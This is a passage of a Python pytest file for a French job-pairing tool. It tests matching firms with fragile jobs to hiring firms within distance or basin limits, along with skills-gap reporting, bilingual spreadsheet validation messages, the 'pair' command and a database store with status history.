"""Firm-to-firm pairing: the global assignment, the distance limit, skills gaps, the readers' French messages,
the `pair` command, and the store (SQLite and PostgreSQL) with its status history."""

from __future__ import annotations

import io
import sys

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from shapely.geometry import box

from gpect_core.cli import main
from gpect_core.errors import GpectError
from gpect_core.i18n import t
from gpect_core.pairing.export import orphans_for_export, pairing_xlsx, removal_note
from gpect_core.pairing.geo import neighbours
from gpect_core.pairing.reader import PairingInputError, entry_id, read_list
from gpect_core.pairing.solver import pair_jobs
from gpect_core.pairing.store import PairingError, PairingStore
from gpect_core.pairing.survey import survey_rows, with_survey
from gpect_core.pairing.templates import FRAGILE, HIRING, pairing_template
from gpect_core.territory import Territory

if not hasattr(sys.modules.get("conftest"), "plan_store"):
    from conftest_plan import *  # noqa: F403


def small_territory() -> Territory:
    """Three zones: Z1 and Z2 ~11 km apart (centres 0.1° of latitude), Z3 ~55 km north of Z1; one commune each."""
    zones = gpd.GeoDataFrame({"zoning": "EPCI", "zone_id": ["Z1", "Z2", "Z3"], "name": ["Un", "Deux", "Trois"]},
                             geometry=[box(1.99, 47.99, 2.01, 48.01), box(1.99, 48.09, 2.01, 48.11),
                                       box(1.99, 48.49, 2.01, 48.51)], crs="EPSG:4326")
    communes = pd.DataFrame({"commune_id": ["10001", "10002", "10003"], "name": ["Amont", "Bourg", "Cime"],
                             "zone_EPCI": ["Z1", "Z2", "Z3"]})
    occupations = pd.DataFrame({"system": "ROME4", "code": ["A1101", "B1101", "C1101", "D1101"],
                                "label": ["Métier A", "Métier B", "Métier C", "Métier D"]})
    bridges = pd.DataFrame({"from_code": ["A1101", "B1101"], "to_code": ["C1101", "A1101"], "kind": "close",
                            "source": "test", "score": [0.5, 0.8]})
    skills = pd.DataFrame({
        "occupation_code": ["A1101", "A1101", "A1101", "C1101", "C1101", "C1101", "C1101"],
        "skill_id": ["s1", "s2", "s4", "s1", "s3", "s4", "s5"],
        "label": ["Souder", "Lire un plan", "Contrôler", "Souder", "Programmer", "Contrôler", "Ranger"],
        "kind": "competence", "core": [True, True, False, True, True, True, False]})
    training = pd.DataFrame({"program_id": ["P1"], "title": ["Titre pro programmeur"], "provider": ["GRETA"],
                             "zoning": ["EPCI"], "zone_id": ["Z1"], "occupation_codes": ["C1101"],
                             "capacity": [12], "year": [2024]})
    return Territory("Test", zones, {"communes": communes, "occupations": occupations, "bridges": bridges,
                                     "skills": skills, "training": training})


def rows(kind: str, data: list[tuple]) -> pd.DataFrame:
    extra = "time_frame" if kind == "fragile" else "horizon"
    frame = pd.DataFrame(data, columns=["firm", "commune_id", "occupation_code", "headcount"]).assign(**{extra: ""})
    frame.insert(0, "entry_id", [entry_id(f, c, o) for f, c, o, _n in data])
    return frame.astype({"headcount": "int64"})


def test_the_assignment_is_global_where_a_greedy_choice_pairs_fewer_people():
    territory = small_territory()
    # Greedy takes « Alpha → Gamma » (same occupation, cost 0) first, and Beta, who can only go to Gamma, is left.
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 1), ("Beta", "10001", "B1101", 1)])
    hiring = rows("hiring", [("Gamma", "10001", "A1101", 1), ("Delta", "10001", "C1101", 1)])
    result = pair_jobs(fragile, hiring, territory, max_km=5)
    got = set(zip(result.pairs["fragile_firm"], result.pairs["hiring_firm"], strict=True))
    assert got == {("Alpha", "Delta"), ("Beta", "Gamma")}
    # A → C: 100 × (1 − 0.5) + 5 × 1 skill (Programmer); B → A: 100 × 0.2 + 5 × 2 skills (B has no skills listed).
    assert result.total_cost == 55 + 30


def test_every_headcount_and_the_distance_limit_are_respected_and_the_cheapest_split_is_found():
    territory = small_territory()
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 5), ("Beta", "10002", "A1101", 3)])
    hiring = rows("hiring", [("Gamma", "10001", "A1101", 4), ("Delta", "10002", "A1101", 2),
                             ("Far", "10003", "A1101", 10)])
    result = pair_jobs(fragile, hiring, territory, max_km=20)
    pairs = result.pairs
    assert "Far" not in set(pairs["hiring_firm"])  # 55 km away
    assert (pairs["distance_km"] <= 20).all()
    by_fragile = pairs.groupby("fragile_firm")["headcount"].sum()
    by_hiring = pairs.groupby("hiring_firm")["headcount"].sum()
    assert by_fragile.le(pd.Series({"Alpha": 5, "Beta": 3})).all() and by_hiring.le(pd.Series(
        {"Gamma": 4, "Delta": 2})).all()
    assert result.paired == 6  # all positions within reach are filled
    # Least total distance: Alpha fills Gamma on the spot (4), Beta fills Delta on the spot (2).
    got = dict(zip(zip(pairs["fragile_firm"], pairs["hiring_firm"], strict=True), pairs["headcount"], strict=True))
    assert got == {("Alpha", "Gamma"): 4, ("Beta", "Delta"): 2}
    wider = pair_jobs(fragile, hiring, territory, max_km=60)
    assert wider.paired == 8 and "Far" in set(wider.pairs["hiring_firm"])


def test_each_pair_carries_the_core_skills_the_origin_lacks_and_the_local_training():
    territory = small_territory()
    result = pair_jobs(rows("fragile", [("Alpha", "10001", "A1101", 1)]),
                       rows("hiring", [("Delta", "10001", "C1101", 1)]), territory, max_km=5)
    pair = result.pairs.iloc[0]
    # C's core skills: Souder (A has it), Programmer (A lacks it), Contrôler (A has it, non-core): only Programmer.
    assert pair["skills_to_acquire"] == "Programmer" and pair["skills_gap_count"] == 1
    assert pair["training"] == "Titre pro programmeur"
    assert pair["link"] == "close" and pair["bridge_score"] == 0.5


def test_without_bridges_only_the_same_occupation_is_proposed():
    territory = small_territory()
    del territory.tables["bridges"]
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 1), ("Beta", "10001", "B1101", 1)])
    hiring = rows("hiring", [("Gamma", "10001", "A1101", 1), ("Delta", "10001", "C1101", 1)])
    result = pair_jobs(fragile, hiring, territory, max_km=5)
    assert list(zip(result.pairs["fragile_firm"], result.pairs["hiring_firm"], strict=True)) == [("Alpha", "Gamma")]


def write_list(path, spec, data_rows):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Saisie"
    sheet.append(spec.headers)
    for row in data_rows:
        sheet.append(list(row))
    workbook.save(path)
    return path


def test_the_reader_names_file_sheet_row_and_column_of_each_bad_cell(tmp_path):
    path = write_list(tmp_path / "fragiles.xlsx", FRAGILE, [
        ("Alpha", "10001", "A1101", 3, "6 mois"),
        ("Beta", "99999", "Z9999", 2.5, ""),
    ])
    with pytest.raises(PairingInputError) as caught:
        read_list(path, "fragile", small_territory())
    messages = [p.message for p in caught.value.problems]
    assert "rien n'a été enregistré" in caught.value.message
    assert messages == [
        "« fragiles.xlsx », feuille « Saisie », ligne 3, colonne « Code commune (INSEE) » : la commune « 99999 » "
        "n'existe pas dans le territoire",
        "« fragiles.xlsx », feuille « Saisie », ligne 3, colonne « Code métier (ROME) » : « Z9999 » n'est pas un "
        "code ROME (une lettre de A à N et quatre chiffres, ex. H2913)",
        "« fragiles.xlsx », feuille « Saisie », ligne 3, colonne « Effectif concerné » : « 2,5 » n'est pas un "
        "nombre entier positif",
    ]
    with pytest.raises(PairingInputError) as caught:
        read_list(path, "fragile", small_territory(), lang="en")
    assert caught.value.problems[-1].message.endswith("“2.5” is not a positive whole number")


def test_a_workbook_without_its_entry_sheet_or_rows_says_so_in_good_french(tmp_path):
    workbook = Workbook()
    workbook.active.title = "Notice"
    workbook.active.append(["Remplissez la feuille Saisie"])
    workbook.create_sheet("Feuil2").append(["Entreprise", "Commune"])
    workbook.save(tmp_path / "sans_saisie.xlsx")
    with pytest.raises(PairingInputError) as caught:
        read_list(tmp_path / "sans_saisie.xlsx", "fragile", small_territory())
    assert caught.value.message == ("« sans_saisie.xlsx » : la feuille « Saisie » du modèle est absente (feuilles du "
                                    "classeur : « Notice », « Feuil2 ») ; saisissez les lignes dans la feuille "
                                    "« Saisie » du modèle.")
    with pytest.raises(PairingInputError) as caught:
        read_list(write_list(tmp_path / "vide.xlsx", FRAGILE, []), "fragile", small_territory())
    assert caught.value.message == "« vide.xlsx », feuille « Saisie » ne contient aucune ligne d'emplois fragilisés."


def test_the_map_tooltip_writes_the_distance_the_french_way_and_in_english():
    from gpect_core.pairing.maps import pairing_map

    territory = placed_territory()
    result = pair_jobs(rows("fragile", [("Alpha", "10001", "A1101", 1)]),
                       rows("hiring", [("Gamma", "10004", "A1101", 1)]), territory, max_km=20)
    km = result.pairs["distance_km"].iloc[0]
    assert km == 8.0
    french = pairing_map(territory, result.pairs).get_root().render()
    assert "1 pers., 8,0 km" in french
    english = pairing_map(territory, result.pairs, lang="en").get_root().render()
    assert "1 person(s), 8.0 km" in english


def test_the_pair_command_refuses_two_commute_rules_at_once(tmp_path, capsys):
    pack = tmp_path / "pack"
    small_territory().save(pack, validate=False)
    fragile = write_list(tmp_path / "f.xlsx", FRAGILE, [("Alpha", "10001", "A1101", 1)])
    hiring = write_list(tmp_path / "h.xlsx", HIRING, [("Gamma", "10001", "A1101", 1)])
    for lang, said in (("fr", "--max-km 30 et --basins same sont deux règles de trajet différentes"),
                       ("en", "--max-km 30 and --basins same are two different commute rules")):
        assert main(["pair", "--pack", str(pack), "--fragile", str(fragile), "--hiring", str(hiring), "--max-km",
                     "30", "--basins", "same", "--out", str(tmp_path / "x.xlsx"), "--lang", lang]) == 1
        err = capsys.readouterr().err
        assert said in err and "Traceback" not in err
    assert not (tmp_path / "x.xlsx").exists()


def test_job_titles_written_in_words_go_through_the_survey_matching_and_are_never_forced(tmp_path):
    territory = small_territory()
    territory.tables["occupations"] = pd.concat([territory.tables["occupations"], pd.DataFrame(
        {"system": ["ROME4", "ROME4"], "code": ["H2913", "N4101"],
         "label": ["Soudeur / Soudeuse", "Conducteur / Conductrice de transport de marchandises sur longue distance"]})])
    territory.tables["occupation_titles"] = pd.DataFrame({
        "title_id": ["11", "12", "13"], "label": ["Soudeur / Soudeuse TIG", "Soudeur / Soudeuse MIG MAG",
                                                  "Conducteur / Conductrice poids lourd"],
        "occupation_code": ["H2913", "H2913", "N4101"]})
    good = write_list(tmp_path / "fragiles.xlsx", FRAGILE, [("Alpha", "10001", "soudeur tig H/F", 3),
                                                              ("Beta", "10002", "Conducteur PL", 2)])
    frame = read_list(good, "fragile", territory)
    assert frame["occupation_code"].tolist() == ["H2913", "N4101"]
    assert [(row, title, code) for row, title, code, _a, _s in frame.attrs["matched_titles"]] == [
        (2, "soudeur tig H/F", "H2913"), (3, "Conducteur PL", "N4101")]
    doubts = [d.message for d in frame.attrs["doubts"]]  # a title read as a code is a guess: the user confirms it
    assert len(doubts) == 2 and doubts[0].startswith(
        "« fragiles.xlsx », feuille « Saisie », ligne 2, colonne « Code métier (ROME) » : « soudeur tig H/F » lu "
        "comme le code ROME H2913 (Soudeur / Soudeuse TIG, score ")
    bad = write_list(tmp_path / "flou.xlsx", FRAGILE, [("Alpha", "10001", "xqzt wvv", 1)])
    with pytest.raises(PairingInputError) as caught:
        read_list(bad, "fragile", territory)
    assert caught.value.problems[0].message.startswith(
        "« flou.xlsx », feuille « Saisie », ligne 2, colonne « Code métier (ROME) » : le métier « xqzt wvv » ne "
        "correspond à aucun code ROME avec assez de certitude")


def test_values_that_may_be_right_are_kept_but_listed_to_confirm_with_their_place(tmp_path):
    from datetime import date

    territory = small_territory()
    territory.tables["communes"] = pd.concat([territory.tables["communes"], pd.DataFrame(
        {"commune_id": ["01053"], "name": ["Bourg-en-Bresse"], "zone_EPCI": ["Z1"]})], ignore_index=True)
    far = date.today().year + 5
    path = write_list(tmp_path / "postes.xlsx", HIRING, [("Alpha", 1053, "A1101", 2, "moins de 3 mois"),
                                                         ("Beta", "10002", "B1101", 4000, ""),
                                                         ("Gamma", "10003", "C1101", 1, f"en {far}"),
                                                         ("Delta", "10001", "D1101", 3, "2 ans")])
    frame = read_list(path, "hiring", territory)
    assert frame["commune_id"].tolist() == ["01053", "10002", "10003", "10001"]  # kept as read
    where = "« postes.xlsx », feuille « Saisie », ligne"
    assert [d.message for d in frame.attrs["doubts"]] == [
        f"{where} 2, colonne « Code commune (INSEE) » : « 1053 » lu comme la commune « 01053 » (zéro initial perdu "
        "par le tableur) : à confirmer",
        f"{where} 3, colonne « Postes à pourvoir » : « 4000 » : effectif inhabituel pour une seule ligne (plus de "
        "500) : à confirmer",
        f"{where} 4, colonne « Horizon » : « en {far} » : année postérieure à {date.today().year + 1} : à confirmer"]
    usual = write_list(tmp_path / "ok.xlsx", HIRING, [("Alpha", "10001", "A1101", 2, "moins de 3 mois")])
    assert read_list(usual, "hiring", territory).attrs["doubts"] == []


def test_the_blank_template_reads_back_its_example_row(tmp_path):
    path = tmp_path / "postes.xlsx"
    path.write_bytes(pairing_template("hiring"))
    assert load_workbook(path).sheetnames == ["Saisie", "Notice"]
    territory = small_territory()
    territory.tables["communes"] = pd.concat([territory.tables["communes"], pd.DataFrame(
        {"commune_id": ["92002"], "name": ["Exemple"], "zone_EPCI": ["Z1"]})])
    territory.tables["occupations"] = pd.concat([territory.tables["occupations"], pd.DataFrame(
        {"system": ["ROME4"], "code": ["H2909"], "label": ["Monteur"]})])
    frame = read_list(path, "hiring", territory)
    assert frame[["firm", "commune_id", "occupation_code", "headcount"]].values.tolist() == [
        ["Atelier Meca", "92002", "H2909", 2]]


def test_the_pair_command_writes_the_advisers_workbook_and_refuses_a_bad_file(tmp_path, capsys):
    pack = tmp_path / "pack"
    small_territory().save(pack, validate=False)
    fragile = write_list(tmp_path / "f.xlsx", FRAGILE, [("Alpha", "10001", "A1101", 1), ("Beta", "10001", "B1101", 1)])
    hiring = write_list(tmp_path / "h.xlsx", HIRING, [("Gamma", "10001", "A1101", 1), ("Delta", "10001", "C1101", 1)])
    out = tmp_path / "pairs.xlsx"
    assert main(["pair", "--pack", str(pack), "--fragile", str(fragile), "--hiring", str(hiring), "--max-km", "10",
                 "--out", str(out)]) == 0
    sheet = pd.read_excel(out, sheet_name="Rapprochements", engine="openpyxl")
    assert set(zip(sheet["Entreprise (emplois fragilisés)"], sheet["Entreprise qui recrute"], strict=True)) == {
        ("Alpha", "Delta"), ("Beta", "Gamma")}
    bad = write_list(tmp_path / "bad.xlsx", HIRING, [("Gamma", "10001", "A1101", "deux")])
    capsys.readouterr()
    assert main(["pair", "--pack", str(pack), "--fragile", str(fragile), "--hiring", str(bad), "--max-km", "10",
                 "--out", str(tmp_path / "x.xlsx")]) == 1
    err = capsys.readouterr().err
    assert "« bad.xlsx », feuille « Saisie », ligne 2, colonne « Postes à pourvoir » : « deux »" in err
    assert "Traceback" not in err and not (tmp_path / "x.xlsx").exists()
    # both files' errors in one run, not only the first file's
    worse = write_list(tmp_path / "worse.xlsx", FRAGILE, [("Alpha", "10001", "A1101", "trois")])
    assert main(["pair", "--pack", str(pack), "--fragile", str(worse), "--hiring", str(bad), "--max-km", "10",
                 "--out", str(tmp_path / "x.xlsx")]) == 1
    err = capsys.readouterr().err
    assert "« worse.xlsx », feuille « Saisie », ligne 2, colonne « Effectif concerné » : « trois »" in err, err
    assert "« bad.xlsx », feuille « Saisie », ligne 2, colonne « Postes à pourvoir » : « deux »" in err
    assert not (tmp_path / "x.xlsx").exists()
    # values kept as read but doubtful are listed, as the page lists them
    odd = write_list(tmp_path / "odd.xlsx", HIRING, [("Gamma", "10001", "A1101", 800)])
    assert main(["pair", "--pack", str(pack), "--fragile", str(fragile), "--hiring", str(odd), "--max-km", "10",
                 "--out", str(tmp_path / "y.xlsx")]) == 0
    out = capsys.readouterr().out
    assert ("1 valeur(s) à vérifier (gardées telles que lues) :\n  - « odd.xlsx », feuille « Saisie », ligne 2, "
            "colonne « Postes à pourvoir » : « 800 » : effectif inhabituel") in out, out


def test_the_pair_command_reports_in_english_with_lang_en(tmp_path, capsys):
    pack = tmp_path / "pack"
    small_territory().save(pack, validate=False)
    fragile = write_list(tmp_path / "f.xlsx", FRAGILE, [("Alpha", "10001", "A1101", 1)])
    odd = write_list(tmp_path / "odd.xlsx", HIRING, [("Gamma", "10001", "A1101", 800)])
    out = tmp_path / "pairs.xlsx"
    common = ["pair", "--pack", str(pack), "--lang", "en"]
    assert main([*common, "--fragile", str(fragile), "--hiring", str(odd), "--max-km", "10", "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert printed.startswith("1 value(s) to check (kept as read):\n  - “odd.xlsx”, sheet “Saisie”, row 2, ")
    assert printed.endswith(f"1 person(s) paired out of 1 in fragile jobs and 800 position(s), within 10 km: "
                            f"1 pair(s) written to {out}.\n"), printed
    bad = write_list(tmp_path / "bad.xlsx", HIRING, [("Gamma", "10001", "A1101", "deux")])
    worse = write_list(tmp_path / "worse.xlsx", FRAGILE, [("Alpha", "99999", "A1101", 1)])
    refusals = {
        ("--fragile", str(fragile), "--hiring", str(bad), "--max-km", "10"): ["“bad.xlsx”, sheet “Saisie”, row 2"],
        ("--fragile", str(worse), "--hiring", str(bad), "--max-km", "10"): [
            "Both files have errors; nothing was written.", "“worse.xlsx”, sheet “Saisie”, row 2",
            "“bad.xlsx”, sheet “Saisie”, row 2"],
        ("--fragile", str(fragile), "--hiring", str(tmp_path / "none.xlsx"), "--max-km", "10"): [
            f"The file “{tmp_path / 'none.xlsx'}” does not exist."],
        ("--fragile", str(fragile), "--hiring", str(odd)): ["Give --max-km N"],
        ("--fragile", str(fragile), "--hiring", str(odd), "--max-km", "-2"): ["--max-km must be zero or more"],
        ("--fragile", str(fragile), "--hiring", str(odd), "--basins", "same", "--zoning", "ZZ"): [
            "The zoning “ZZ” is not in the pack (EPCI)."],
    }
    for args, messages in refusals.items():
        assert main([*common, *args, "--out", str(tmp_path / "x.xlsx")]) == 1
        err = capsys.readouterr().err
        assert all(m in err for m in messages) and "Traceback" not in err, err
        assert not any(word in err for word in ("feuille", "ligne", "n'existe pas", "Donnez")), err
    assert main([*common, "--fragile", str(fragile), "--hiring", str(odd), "--max-km", "10", "--out",
                 str(tmp_path / "x.csv")]) == 1
    assert "the output must be an .xlsx file" in capsys.readouterr().err
    assert not (tmp_path / "x.xlsx").exists()


def test_the_store_keeps_lists_pairs_and_the_status_history(plan_db_url):
    territory = small_territory()
    store = PairingStore.open(plan_db_url)
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 1), ("Beta", "10001", "B1101", 1)])
    hiring = rows("hiring", [("Gamma", "10001", "A1101", 1), ("Delta", "10001", "C1101", 1)])
    assert store.import_list("fragile", fragile, "edith") == {"added": 2, "changed": 0, "removed": 0}
    store.import_list("hiring", hiring, "edith")
    pd.testing.assert_frame_equal(store.list_frame("fragile").sort_values("firm").reset_index(drop=True),
                                  fragile.sort_values("firm").reset_index(drop=True), check_dtype=False)
    result = pair_jobs(store.list_frame("fragile"), store.list_frame("hiring"), territory, 5)
    assert store.save_proposals(result.pairs, "edith") == {"proposed": 2, "kept": 0, "withdrawn": 0}
    pair_id = entry_id("Alpha", "10001", "A1101") + ">" + entry_id("Delta", "10001", "C1101")
    stored = store.pairs_frame().set_index("pair_id")
    assert set(stored["status"]) == {"propose"}
    version = store.set_status(pair_id, "accepte", "bruno", version=int(stored.loc[pair_id, "version"]))
    with pytest.raises(PairingError, match="modifié entre-temps"):
        store.set_status(pair_id, "refuse", "carla", version=version - 1)
    history = store.history_frame(pair_id)
    assert list(zip(history["kind"], history["user_name"], history["after"], strict=True)) == [
        ("status", "bruno", '"accepte"'), ("propose", "edith", '"propose"')]
    # A new pairing keeps the accepted pair's status; a pair still « proposé » that it drops is withdrawn.
    again = PairingStore.open(plan_db_url)
    assert again.save_proposals(result.pairs[result.pairs["pair_id"] == pair_id], "edith") == {
        "proposed": 0, "kept": 1, "withdrawn": 1}
    assert again.pairs_frame().set_index("pair_id").loc[pair_id, "status"] == "accepte"
    # Removing Alpha from the list leaves the accepted pair in place (only « proposé » pairs are withdrawn); the
    # preview names Alpha and its decided pair before the import, and the pair stays visible afterwards.
    removals = again.removals("fragile", fragile[fragile["firm"] == "Beta"])
    assert removals[["firm", "decided"]].values.tolist() == [["Alpha", 1]]
    assert again.orphan_pairs().empty
    assert again.import_list("fragile", fragile[fragile["firm"] == "Beta"], "edith")["removed"] == 1
    orphans = again.orphan_pairs()
    assert orphans[["pair_id", "status", "fragile_firm", "hiring_firm", "removed"]].values.tolist() == [
        [pair_id, "accepte", "Alpha", "Delta", "fragile"]]
    removed_on = again.history_frame()["at"].iloc[0]
    assert orphans["removed_at"].iloc[0] == removed_on
    # the advisers' workbook lists the orphan pair too, marked, with its status, in French and in English
    left = pair_jobs(again.list_frame("fragile"), again.list_frame("hiring"), territory, 5)
    for lang, status, note in (
            ("fr", "accepté", f"entreprise retirée de la liste le {removed_on:%d/%m/%Y} (emplois fragilisés)"),
            ("en", "accepted", f"firm removed from the list on {removed_on:%Y-%m-%d} (fragile jobs)")):
        labels = {"accepte": status}
        book = pd.read_excel(io.BytesIO(pairing_xlsx(
            left, again.list_frame("fragile"), again.list_frame("hiring"), lang=lang,
            orphans=orphans_for_export(orphans, lang, {pair_id: status}, {"A1101": "Maçon"}))), sheet_name=0,
            engine="openpyxl", dtype=str).fillna("")
        firm, removed = t("pairing.xlsx.fragile_firm", lang), t("pairing.xlsx.removed_note", lang)
        row = book[book[firm] == "Alpha"].iloc[0]
        assert row[removed] == note and row[t("pairing.xlsx.status", lang)] == labels["accepte"]
        assert row[t("pairing.xlsx.from_label", lang)] == "Maçon"
        assert (book.loc[book[firm] != "Alpha", removed] == "").all()
    assert again.history_frame()["kind"].iloc[0] == "import"
    assert again.plan.schema_revision() >= "0003_pairing"  # the pairing tables' migration, or a later one
    store.close()
    again.close()


def placed_territory() -> Territory:
    """The small territory with commune coordinates: Amont and Aval in zone Z1, 8 km apart (0.072° of latitude);
    Bourg in Z2 without coordinates (placed at Z2's centre). BMO basins: B1 (Amont, Aval) and B2 (Bourg) share a
    border; B3 (Cime) touches neither and lies nearer Amont than Bourg does."""
    territory = small_territory()
    communes = pd.DataFrame({"commune_id": ["10001", "10004", "10002", "10003"],
                             "name": ["Amont", "Aval", "Bourg", "Cime"],
                             "zone_EPCI": ["Z1", "Z1", "Z2", "Z3"], "zone_BMO": ["B1", "B1", "B2", "B3"],
                             "lon": [2.0, 2.0, None, 2.2], "lat": [48.0, 48.072, None, 48.0]})
    territory.tables["communes"] = communes.astype({"lon": "Float64", "lat": "Float64"})
    basins = gpd.GeoDataFrame({"zoning": "BMO", "zone_id": ["B1", "B2", "B3"], "name": ["Un", "Deux", "Trois"]},
                              geometry=[box(1.9, 47.9, 2.1, 48.08), box(1.9, 48.08, 2.1, 48.6),
                                        box(2.15, 47.9, 2.3, 48.08)], crs="EPSG:4326")
    territory.zones = pd.concat([territory.zones, basins], ignore_index=True)
    return territory


def _km(lat_a, lon_a, lat_b, lon_b) -> float:
    import math

    p1, p2, dl = math.radians(lat_a), math.radians(lat_b), math.radians(lon_b - lon_a)
    return 6371.0 * math.acos(min(1.0, math.sin(p1) * math.sin(p2) + math.cos(p1) * math.cos(p2) * math.cos(dl)))


def test_distances_are_between_commune_centroids_and_a_commune_without_one_is_noted():
    territory = placed_territory()
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 1), ("Beta", "10002", "A1101", 1)])
    hiring = rows("hiring", [("Gamma", "10004", "A1101", 2)])
    result = pair_jobs(fragile, hiring, territory, max_km=15)
    pairs = result.pairs.set_index("fragile_firm")
    # Amont → Aval: same EPCI, yet 8 km apart (it was 0 km between EPCI centroids)
    assert pairs.loc["Alpha", "distance_km"] == pytest.approx(_km(48.0, 2.0, 48.072, 2.0), abs=0.05)
    assert pairs.loc["Alpha", "distance_km"] > 7.9
    assert pairs.loc["Alpha", "from_located"] == "commune" and pairs.loc["Alpha", "to_located"] == "commune"
    # Bourg has no coordinates: it stands at the centre of its EPCI Z2 (48.10), and the pair says so
    assert pairs.loc["Beta", "from_located"] == "EPCI"
    assert pairs.loc["Beta", "distance_km"] == pytest.approx(_km(48.10, 2.0, 48.072, 2.0), abs=0.05)
    book = pd.read_excel(io.BytesIO(pairing_xlsx(result, fragile, hiring)), sheet_name="Rapprochements",
                         engine="openpyxl")
    notes = dict(zip(book["Entreprise (emplois fragilisés)"], book["Note sur la distance"].fillna(""), strict=True))
    assert notes["Alpha"] == ""
    assert notes["Beta"] == "départ placé au centre de sa zone (EPCI) : commune sans coordonnées"


def test_same_and_neighbouring_basins_follow_shared_borders_not_distance():
    territory = placed_territory()
    near = neighbours(territory, "BMO")
    assert set(zip(near["zone_a"], near["zone_b"], strict=True)) == {
        ("B1", "B1"), ("B2", "B2"), ("B3", "B3"), ("B1", "B2"), ("B2", "B1")}
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 3)])
    hiring = rows("hiring", [("Same", "10004", "A1101", 1), ("Next", "10002", "A1101", 1),
                             ("Close", "10003", "A1101", 1)])
    same = pair_jobs(fragile, hiring, territory, basins="same", zoning="BMO")
    assert set(same.pairs["hiring_firm"]) == {"Same"}
    both = pair_jobs(fragile, hiring, territory, basins="neighbours", zoning="BMO")
    # Cime (B3) is 15 km from Amont, nearer than Bourg, but B3 shares no border with B1
    assert set(both.pairs["hiring_firm"]) == {"Same", "Next"} and both.paired == 2
    book = pd.read_excel(io.BytesIO(pairing_xlsx(both, fragile, hiring)), sheet_name="Méthode", engine="openpyxl")
    assert "même bassin ou bassin voisin (BMO" in " ".join(book["Valeur"].astype(str))
    with pytest.raises(GpectError, match="Mode « partout » inconnu"):
        pair_jobs(fragile, hiring, territory, basins="partout")


def test_the_person_by_position_matching_finds_the_optimum_of_the_flow_network(monkeypatch):
    import numpy as np

    import gpect_core.pairing.solver as solver

    territory = placed_territory()
    territory.tables["bridges"] = pd.DataFrame({
        "from_code": ["A1101", "A1101", "B1101", "C1101", "D1101"], "to_code": ["C1101", "B1101", "A1101", "D1101",
                                                                                "A1101"],
        "kind": "close", "source": "test", "score": [0.5, 0.3, 0.8, 0.6, 0.4]})
    rng = np.random.default_rng(3)
    communes, codes = ["10001", "10004", "10002", "10003"], ["A1101", "B1101", "C1101", "D1101"]

    def draw(kind, n):
        data = {(f"{kind}{i}", rng.choice(communes), rng.choice(codes)) for i in range(n)}
        return rows(kind, [(f, c, o, int(rng.integers(1, 4))) for f, c, o in sorted(data)])

    fragile, hiring = draw("fragile", 25), draw("hiring", 25)
    matched = pair_jobs(fragile, hiring, territory, max_km=20)
    monkeypatch.setattr(solver, "MAX_UNIT_LINKS", 0)  # the group network and HiGHS instead
    flowed = pair_jobs(fragile, hiring, territory, max_km=20)
    assert matched.paired == flowed.paired > 0
    assert matched.total_cost == flowed.total_cost
    for result in (matched, flowed):
        used = result.pairs.groupby("fragile_id")["headcount"].sum()
        assert (used <= fragile.set_index("entry_id")["headcount"].reindex(used.index)).all()
        assert (result.pairs["distance_km"] <= 20).all()
    # with decided pairs (some accepted, some refused), both solvers still find the same optimum around them
    decided = matched.pairs.iloc[::3].assign(status=["accepte", "refuse"] * (len(matched.pairs.iloc[::3]) // 2)
                                             + ["accepte"] * (len(matched.pairs.iloc[::3]) % 2), version=1)
    monkeypatch.setattr(solver, "MAX_UNIT_LINKS", 6_000_000)
    around = pair_jobs(fragile, hiring, territory, max_km=5, decided=decided)
    monkeypatch.setattr(solver, "MAX_UNIT_LINKS", 0)
    around_flow = pair_jobs(fragile, hiring, territory, max_km=5, decided=decided)
    refused = set(decided.loc[decided["status"] == "refuse", "pair_id"])
    for result in (around, around_flow):
        assert refused and not refused & set(result.pairs["pair_id"])
        assert set(decided.loc[decided["status"] == "accepte", "pair_id"]) <= set(result.pairs["pair_id"])
        used = result.pairs.groupby("hiring_id")["headcount"].sum()
        assert (used <= hiring.set_index("entry_id")["headcount"].reindex(used.index)).all()
    assert around.paired == around_flow.paired and around.total_cost == around_flow.total_cost


def test_survey_needs_feed_the_hiring_list_and_declared_fragile_jobs_the_fragile_list():
    territory = placed_territory()
    territory.tables["needs"] = pd.DataFrame({
        "response_id": ["E1", "E2", "E3"], "zoning": "EPCI", "zone_id": ["Z1", "Z1", "Z2"],
        "occupation_code": ["A1101", "C1101", "A1101"], "headcount": pd.array([2, 1, 4], dtype="Int64"),
        "horizon": ["besoins à 1 an", "", ""], "fragile": ["", "", "oui"]})
    hiring = survey_rows(territory, "hiring", {"E1": "Conserverie du Lac"})
    assert list(hiring["entry_id"]) == ["enquete:E1", "enquete:E2"] and list(hiring["headcount"]) == [2, 1]
    assert hiring.loc[0, "firm"] == "Conserverie du Lac" and hiring.loc[1, "firm"] == "Réponse E2 (enquête)"
    fragile = survey_rows(territory, "fragile")
    assert list(fragile["occupation_code"]) == ["A1101"] and list(fragile["headcount"]) == [4]
    listed = rows("hiring", [("Gamma", "10004", "C1101", 1), ("Delta", "10001", "B1101", 1)])  # Delta: no bridge
    result = pair_jobs(with_survey(territory, rows("fragile", []), "fragile"),
                       with_survey(territory, listed, "hiring"), territory, max_km=30)
    # the 4 people the survey declared fragile (zone Z2) fill the survey's needs (zone Z1: 2 A1101, 1 C1101 by the
    # A → C bridge) and Gamma's position
    assert result.fragile_total == 4 and result.hiring_total == 5 and result.paired == 4
    survey_pairs = result.pairs[result.pairs["hiring_id"] == "enquete:E1"]
    # Z1's centre is exactly Amont's centroid (Delta's place): the answer still stands at its zone's centre
    assert survey_pairs["headcount"].sum() == 2 and set(survey_pairs["to_located"]) == {"EPCI"}
    assert set(survey_pairs["to_commune_name"]) == {"Un"}


def test_the_workbook_says_links_in_words_never_codes():
    territory = small_territory()
    territory.tables["bridges"] = territory.tables["bridges"].assign(kind=["mobility", "skills"])
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 1), ("Beta", "10001", "B1101", 1)])
    hiring = rows("hiring", [("Gamma", "10001", "A1101", 1), ("Delta", "10001", "C1101", 1)])
    result = pair_jobs(fragile, hiring, territory, max_km=5)
    for lang, words in (("fr", {"mobilité ROME", "compétences proches"}), ("en", {"ROME mobility", "similar skills"})):
